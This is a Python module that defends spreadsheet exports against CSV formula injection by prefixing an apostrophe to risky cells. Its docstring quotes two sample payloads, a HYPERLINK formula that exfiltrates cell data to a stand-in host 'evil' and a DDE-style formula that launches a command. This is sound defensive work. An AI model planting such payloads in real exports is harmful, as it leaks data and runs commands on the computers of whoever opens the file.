"""CSV/spreadsheet exports that cannot run formulas ("CSV injection").

A customer controls their WhatsApp profile name, a spreadsheet row or a message: a cell
like ``=HYPERLINK("https://evil/?"&A2,"ver")`` or ``@SUM(1+1)*cmd|' /C calc'!A0`` becomes
a live formula when an agent opens the export in Excel or LibreOffice. Every cell that
starts with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a leading apostrophe
(OWASP's advice: spreadsheets show the text, never evaluate it). Plain numbers such as an
E.164 phone ``+5511987654321`` or ``-12.5`` stay as they are: they cannot be formulas.

Every export goes through :func:`neutralize` (via :class:`SafeWriter`), one place.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d[\d ]*(?:[.,]\d+)?")

__all__ = ["FORMULA_STARTS", "SafeWriter", "neutralize"]


def neutralize(value: Any) -> Any:
    """``value`` safe for a spreadsheet cell (non-text values are returned unchanged)."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


class SafeWriter:
    """``csv.writer`` whose every cell passes through :func:`neutralize`."""

    def __init__(self, buffer: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(buffer, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralize(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
